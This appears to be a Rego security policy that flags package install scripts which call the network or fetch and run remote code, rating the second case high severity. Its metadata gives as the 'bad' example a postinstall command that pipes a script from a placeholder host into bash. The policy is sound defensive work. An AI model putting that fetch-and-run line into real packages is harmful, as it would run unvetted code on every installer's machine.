# METADATA
# scope: package
# title: Install script calls the network
# description: >-
#   Scripts named `preinstall`, `install`, `postinstall` or `prepare` run by themselves on every machine that
#   installs the package, with all rights of whoever does.
# custom:
#   id: policy/supply-chain/install-script-calls-network
#   severity: medium
#   cwe: [829, 506]
#   owasp: ["A08:2021"]
#   asvs: [v4.0.3-10.2.1]
#   remedy: >-
#     leave such scripts out, or let them only build what is in the package
#   bad: |
#     "postinstall": "curl -s https://x.example/setup.sh | bash"
#   good: |
#     "postinstall": "prisma generate"
package stageclear.supply_chain.install_script_calls_network

import data.stageclear.lib

deny contains violation if {
	some script in lib.resources_of("package-script")
	some on in script.facts["on-install"]
	some reason in reasons(script)
	violation := {
		"msg": sprintf("`%s` runs by itself and %s", [script.name, reason]),
		"location": on.location,
		"severity": severity(script),
		"confidence": "medium",
		"content": script.name,
	}
}

reasons(script) := ["runs what it fetches"] if fetches(script)

reasons(script) := ["calls the network"] if {
	not fetches(script)
	script.facts.network
}

fetches(script) if {
	some habit in script.facts.habit
	startswith(habit.value.habit, "fetch-and-run")
}

severity(script) := "high" if fetches(script)

severity(script) := "medium" if not fetches(script)
